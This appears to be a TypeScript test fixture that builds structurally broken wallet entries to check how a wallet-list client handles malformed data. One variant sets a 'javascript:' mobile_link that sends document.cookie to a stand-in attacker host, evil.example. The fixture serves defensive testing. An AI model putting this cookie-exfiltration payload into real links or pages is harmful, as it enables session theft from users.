import type { WalletListEntry } from './types.js'

const hostileLink = 'javascript:fetch("https://evil.example/?c="+document.cookie)//'

// Each turns a valid entry into a structurally broken one (a distinct, still 64-hex id where
// there is an id, so it never shadows a valid wallet).
const variants: ((wallet: WalletListEntry, badId: string) => unknown)[] = [
  ({ id: _id, ...rest }) => rest, // no id
  (wallet, id) => ({ ...wallet, id, name: 404 }), // name not a string
  (wallet, id) => ({ ...wallet, id, name: `${wallet.name} Link`, mobile_link: hostileLink }),
  (wallet, id) => ({ ...wallet, id, chains: 'eip155:1' }), // chains not a list
  () => null,
  () => 'wallet',
  (wallet, id) => ({ ...wallet, id, image_id: { url: 'https://evil.example/x.png' } }),
  (wallet) => ({ ...wallet, id: 12345 }), // id not a string
]

/**
 * The `malformed` switch for `/getWallets`: the page's valid entries with a structurally
 * broken one after every second of them (missing id, non-string name, a `javascript:`
 * mobile_link, chains not a list, null, a string, a non-string image_id, a numeric id).
 *
 * @example
 * malformWallets(page.data) // [valid, broken, valid, valid, broken, …]
 */
export function malformWallets(wallets: readonly WalletListEntry[]): unknown[] {
  return wallets.flatMap((wallet, i) => {
    if (i % 2 !== 0) return [wallet]
    const variant = variants[(i / 2) % variants.length]!
    return [wallet, variant(wallet, `badbad${wallet.id.slice(6)}`)]
  })
}
